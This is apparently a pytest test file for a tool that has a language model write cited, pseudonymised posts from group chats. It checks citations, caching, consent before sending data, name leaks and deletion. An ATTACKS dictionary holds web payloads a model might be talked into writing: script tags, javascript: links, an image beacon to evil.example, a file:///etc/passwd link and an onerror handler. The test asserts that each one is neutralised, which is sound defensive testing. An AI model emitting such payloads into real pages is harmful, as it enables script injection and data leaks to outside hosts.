"""Whole runs with a model over real HTTP: what is cited, what stands in for what, and what attacks come to."""

import json
import re
from pathlib import Path
from typing import Any

import egregora_llm
import egregora_report
import pytest
from egregora_core.errors import StageError, UsageError
from egregora_core.pipeline import forget
from egregora_core.session import Command, open_session
from egregora_core.settings import load_settings
from markdown_it import MarkdownIt
from soup import CHAT, DAYS, GOOD, Desk, told
from support import egregora

pytestmark = pytest.mark.slow  # whole runs against a server


def replies(llmock: Any, *answers: str) -> None:
    for answer in answers:
        llmock.reply(answer)


def test_a_post_says_what_it_rests_on(desk: Desk, llmock: Any) -> None:
    """Each claim links to its messages, which stand below by pseudonym; a second run asks nothing."""
    replies(llmock, *GOOD)
    desk.run()
    first = desk.bodies()[0]
    events = [str(event) for (event,) in desk.rows("SELECT event_id FROM stage_privacy ORDER BY ts")]
    assert f"Somebody asks whether to hike to the old mill. ([1](message:{events[0]}))" in first
    assert "2024-03-01 10:00: Shall we hike to the old mill on Sunday?" in first
    assert "Ana" not in first
    attrs = "SELECT attrs::VARCHAR FROM documents WHERE writer = 'llm_posts' ORDER BY window_start LIMIT 1"
    claims = json.loads(desk.rows(attrs)[0][0])["claims"]
    assert claims[1] == {"text": "The soup will be brought.", "messages": [events[1]]}
    assert desk.facts()["spent"]["requests"] == DAYS
    llmock.assert_resilient(strict=True)
    desk.run()
    assert len(llmock.requests) == DAYS


def test_in_the_report_a_claim_leads_to_its_message(desk: Desk, llmock: Any) -> None:
    """The link is to the page on which the message can be read, and to its place there."""
    replies(llmock, *GOOD)
    desk.plugins = [egregora_llm, egregora_report]
    desk.run()
    pages = [path.read_text(encoding="utf-8") for path in (desk.root / "report/writings/post").glob("*.html")]
    links = [link for page in pages for link in re.findall(r'<a href="([^"]*)"[^>]*>\d+</a>', page)]
    assert len(links) == 5
    for link in links:
        path, _, place = link.partition("#")
        assert f'id="{place}"' in (desk.root / "report/writings/post" / path).read_text(encoding="utf-8")


def test_a_post_of_the_model_stands_in_for_the_built_in_one(desk: Desk, llmock: Any) -> None:
    """Window by window: where the model wrote none, the built-in post stays; turned off, all of them are back."""

    def posts() -> list[tuple[str, str]]:
        return desk.rows("SELECT strftime(window_start, '%d'), writer FROM documents WHERE kind = 'post' ORDER BY ALL")

    replies(llmock, GOOD[0], *["nothing"] * 3, GOOD[2])
    assert desk.run().degraded
    assert posts() == [("01", "llm_posts"), ("02", "posts"), ("03", "llm_posts")]
    desk.run()
    assert posts() == [("01", "llm_posts"), ("02", "posts"), ("03", "llm_posts")]
    pages = [path.name for path in (desk.root / "site/docs/posts/2024").glob("2024*.md")]
    assert len(pages) == DAYS

    desk.settings["beside"] = True
    desk.run()
    assert len(posts()) == 2 * DAYS - 1
    desk.settings |= {"beside": False, "enabled": False}
    desk.run()
    assert [writer for _, writer in posts()] == ["posts"] * DAYS
    asked = len(llmock.requests)
    desk.settings["enabled"] = True
    desk.run()
    assert posts() == [("01", "llm_posts"), ("02", "posts"), ("03", "llm_posts")]
    assert len(llmock.requests) == asked  # what was answered is kept, and paid for once


def test_what_was_answered_outlives_a_change_and_goes_with_its_messages(desk: Desk, llmock: Any) -> None:
    """A tone and back costs one answer each; `forget` leaves no answer behind."""
    replies(llmock, *GOOD)
    desk.run()
    desk.settings["tone"] = "dry"
    replies(llmock, *GOOD)
    desk.run()
    del desk.settings["tone"]
    desk.run()
    assert len(llmock.requests) == 2 * DAYS
    assert desk.facts()["spent"] == {"answers_kept": DAYS}
    assert desk.rows("SELECT count(*) FROM llm_answers") == [(2 * DAYS,)]

    app = desk.app()
    with open_session(Command(app, load_settings(desk.root, app))) as session:
        forget(session, author="Bo Quist")
    assert desk.rows("SELECT count(*) FROM llm_answers") == [(0,)]


def test_what_a_judge_said_goes_with_the_people_it_was_said_of(desk: Desk, llmock: Any) -> None:
    """Its reason may repeat what somebody wrote: `forget` removes the comparison; those of people stay."""
    replies(llmock, *GOOD)
    desk.run()
    with (desk.root / "egregora.toml").open("a", encoding="utf-8") as settings:
        settings.write("[ranking]\nenabled = true\n")
    llmock.reply(json.dumps({"why": "The soup was wonderful.", "better": "first"}), times=None)
    egregora("init-elo", cwd=desk.root, code=0)
    egregora("llm", "judge", "--pairs", "2", cwd=desk.root, code=0)
    slugs = [slug for (slug,) in desk.rows("SELECT slug FROM documents WHERE kind = 'post' ORDER BY slug LIMIT 2")]
    egregora("elo", "record", *slugs, "--winner", "a", "--judge", "me", cwd=desk.root, code=0)
    assert desk.rows("SELECT count(*) FROM elo_history") == [(5,)]
    egregora("forget", "--author", "Bo Quist", "--yes", cwd=desk.root, code=0)
    assert desk.rows("SELECT judge FROM elo_history") == [("me",)]


@pytest.mark.parametrize(
    ("title", "text"),
    [
        ("About soup", "Ana Reis brings the soup"),
        ("About soup", "the soup of ana reis"),
        ("Soup by Quist", "the soup is brought"),
    ],
)
def test_a_name_that_gets_out_of_a_model_fails_its_unit(desk: Desk, llmock: Any, title: str, text: str) -> None:
    """Whatever made the model say it; the answer is paid for and kept, and its unit not asked again."""
    desk.settings["attempts"] = 1
    replies(
        llmock,
        *[told((f"{text} on the hike to the mill, in the rain, which was wonderful.", [1, 2]), title=title)] * DAYS,
    )
    with pytest.raises(StageError) as failed:
        desk.run()
    assert "Reis" not in str(failed.value)
    assert "Quist" not in str(failed.value)
    assert desk.bodies() == []
    assert "Quist" not in json.dumps(desk.facts())


ATTACKS = {
    "a script": '<script>alert("x")</script> the soup',
    "a picture that tells home": "the soup ![x](https://evil.example/p.png?soup)",
    "a link that acts": "[the soup](javascript:alert(1))",
    "a link elsewhere": "the soup, see https://evil.example/soup",
    "a link spelt so that only a browser reads it": "[the soup](&#106;avascript:alert(1))",
    "a reference": "the soup [x][y]\n\n[y]: https://evil.example",
    "a heading and a page break": "# the soup\n\n---\n\n<h1>PWNED</h1>",
    "a link to a message of others": "[the soup](message:00000000-0000-4000-8000-00000000dead)",
    "a link to a file": "[the soup](file:///etc/passwd)",
    "markup that never ends": "the soup <img src=https://evil.example/x onerror=alert(1)",
}
"""What a model may be talked into writing, about soup."""


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_is_talked_into_does_nothing(desk: Desk, llmock: Any, attack: str) -> None:
    """On no page is there a tag, a picture, or a link that leads where no message does."""
    desk.chat.write_text(CHAT.splitlines(keepends=True)[1], encoding="utf-8")
    desk.settings["attempts"] = 1
    replies(llmock, told((ATTACKS[attack], [1])))
    try:
        desk.run()
    except StageError:
        assert desk.bodies() == []
        return
    (page,) = (desk.root / "site/docs/posts/2024").glob("2024*.md")
    shown = MarkdownIt("commonmark").render(page.read_text(encoding="utf-8").partition("\n---\n")[2])
    tags = {tag.lower() for tag in re.findall(r"<\s*([a-z!/]+)", shown, re.IGNORECASE)}
    assert not tags & {"script", "img", "iframe", "object", "embed", "style", "svg"}, shown
    places = re.findall(r'(?:href|src)="([^"]*)"', shown)
    assert not [place for place in places if "evil" in place or re.match(r"[a-z]+:", place)], shown


def test_messages_leave_the_machine_only_with_consent(desk: Desk) -> None:
    """Without somebody to ask it is an error that says what to do; once agreed to, it is recorded, and always said."""
    desk.settings |= {"base_url": "http://model.invalid/v1", "retries": 0, "timeout": 1}
    with pytest.raises(UsageError, match=r"--send-to model\.invalid"):
        desk.run()
    assert not (desk.root / ".egregora/sends-to.json").exists()
    asked: list[str] = []

    def no(question: str) -> bool:
        asked.append(question)
        return False

    with pytest.raises(UsageError, match="nothing was sent"):
        desk.run(may_send=no)
    assert "off this machine, to model.invalid" in asked[0]

    for options in ({"send_to": frozenset({"model.invalid"})}, {}):
        with pytest.raises(StageError, match="cannot be reached"):
            desk.run(**options)
        assert desk.facts()["sends_to"] == "model.invalid"
    assert list(json.loads((desk.root / ".egregora/sends-to.json").read_text())) == ["model.invalid"]


def test_a_dry_run_tells_what_it_will_take_and_where_it_goes(desk: Desk, llmock: Any) -> None:
    """From the sizes of windows, with the price where it is known; nothing is asked."""
    desk.settings |= {"enabled": True, "price_in": 1, "price_out": 2, "currency": "EUR"}
    desk.run(limit=0)
    lines = [line.text for line in desk.run(dry_run=True).lines if line.stage == "llm_posts"]
    assert "3 of 3 windows, about 3 requests, about " in lines[-1]
    assert lines[-1].endswith(" EUR)")
    desk.settings |= {"base_url": "http://model.invalid/v1", "tone": "dry"}
    lines = [line.text for line in desk.run(dry_run=True).lines if line.stage == "llm_posts"]
    assert "would send messages, without names, to model.invalid" in lines
    assert llmock.requests == []


def test_several_windows_at_once_make_the_same(desk: Desk, llmock: Any) -> None:
    """As one after the other, to the last id."""
    llmock.reply(told(("They talk of the mill and of the soup.", [1])), times=None)
    made = (
        "SELECT document_id, slug, title, body, attrs::VARCHAR FROM documents WHERE writer = 'llm_posts' ORDER BY ALL"
    )
    desk.settings["concurrency"] = 3
    desk.run()
    several = desk.rows(made)
    assert len(several) == DAYS
    desk.settings["concurrency"] = 1
    desk.run(force=frozenset({"llm_posts"}))
    assert desk.rows(made) == several


def test_an_own_prompt_is_read_from_the_workspace(desk: Desk, llmock: Any) -> None:
    """A file `llm/prompts/post.md` stands in for the package's, and the reason names it."""
    replies(llmock, *GOOD)
    desk.run()
    own = desk.root / "llm/prompts/post.md"
    own.parent.mkdir(parents=True)
    own.write_text("Be brief, in $language.", encoding="utf-8")
    replies(llmock, *GOOD)
    (line,) = [line.text for line in desk.run().lines if line.stage == "llm_posts"]
    assert "config changed (llm/prompts/post.md)" in line
    assert "Be brief, in the language" in json.dumps(llmock.requests[-1].body)


def test_the_commands_say_how_things_are(desk: Desk, llmock: Any, tmp_path: Path) -> None:
    """`check` asks the server, `estimate` nobody, and `eval` measures what is there."""
    replies(llmock, *GOOD)
    desk.run()
    checked = egregora("llm", "check", "--json", cwd=tmp_path, code=0)
    facts = json.loads(checked.stdout)
    assert (facts["state"], facts["messages leave this machine"]) == ("ok", "no")
    assert facts["price of a million tokens"] == "unknown"
    assert "llm_posts: would stand" in egregora("llm", "estimate", cwd=tmp_path, code=0).stdout
    measured = json.loads(egregora("llm", "eval", "--json", cwd=tmp_path, code=0).stdout)
    assert measured["claims"] == 4
    assert measured["names leaked"] == 0
    assert measured["windows covered"] == 1.0
    assert 0 < measured["claims supported"] <= 1
